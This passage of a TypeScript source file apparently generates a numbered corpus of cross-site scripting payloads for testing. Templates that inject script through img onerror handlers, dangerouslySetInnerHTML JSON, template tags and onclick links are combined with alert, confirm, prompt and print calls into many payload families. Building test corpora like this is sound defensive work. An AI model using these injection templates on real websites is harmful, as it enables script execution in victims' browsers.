  (c) => `<%= ${js(c)} %>`,
  (c) => `{% raw %}<script>${js(c)}</script>{% endraw %}`,
  (c) => `<div data-props='{"__html":"<img src=x onerror=${js(c)}>"}'>x</div>`,
  (c) => `{"__html":"<img src=x onerror=${js(c)}>"}`,
  (c) => `{"dangerouslySetInnerHTML":{"__html":"<img src=x onerror=${js(c)}>"}}`,
  (c) => `<a href="https://example.com" target="_blank" onclick="${js(c)}">link</a>`,
];

/** The call payload i makes in the numbered corpus: alert(0), confirm(1), prompt(2), print(3), alert(4)... */
export function numberedCall(index: number): XssCall {
  return { fn: CALLERS[index % CALLERS.length]!, arg: String(index) };
}

/** A call as plain script: `prompt(117)`. */
export function callText(call: XssCall): string {
  return js(call);
}

/**
 * The corpus. `call(i)` chooses the call of payload i; by default payload i calls one of
 * alert/confirm/prompt/print with i as its argument.
 */
export function xssPayloads(call: (index: number) => XssCall = numberedCall): XssPayload[] {
  const templates: { family: XssFamily; make: UrlTemplate }[] = [];
  const add = (family: XssFamily, list: UrlTemplate[]) => list.forEach((make) => templates.push({ family, make }));

  for (const url of scriptUrls) {
    for (const context of urlContexts) templates.push({ family: 'script url', make: (c) => context(url(c)) });
  }
  add('script url', urlAttributeVectors);
  add('event handler', eventHandlerVectors);
  add('svg/mathml', svgMathVectors);
  add('tag injection', tagInjectionVectors);
  add('script context', scriptContextVectors);
  add('json in script', jsonInScriptVectors);
  add('attribute', attributeVectors);
  add('style', styleVectors);
  add('frame/object/meta/form', frameVectors);
  add('encoding/mutation', encodingVectors);
  for (const [family, list] of Object.entries(closers) as [keyof typeof closers, string[]][]) {
    for (const closer of list) {
      for (const body of bodies) templates.push({ family, make: (c) => `${closer}${body(c)}` });
    }
  }
  return templates.map(({ family, make }, id) => ({ id, family, value: make(call(id)) }));
}
